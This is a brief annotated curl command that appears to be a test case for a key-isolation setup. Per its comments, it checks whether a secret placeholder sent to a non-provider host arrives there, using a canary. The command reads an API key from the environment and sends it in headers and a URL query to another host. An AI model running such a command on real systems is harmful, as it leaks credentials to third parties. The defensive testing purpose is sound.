# says: Sends the placeholder to a host that is not the provider, and looks at what arrived.
# stopped by: keys
# proof: canary
# source: placeholder reflected by an allowed host
curl -sS --max-time 5 -H "x-api-key: $(printenv "$KEY")" -H "authorization: Bearer $(printenv "$KEY")" "http://$LISTED:$LISTED_PORT/headers?key=$(printenv "$KEY")"
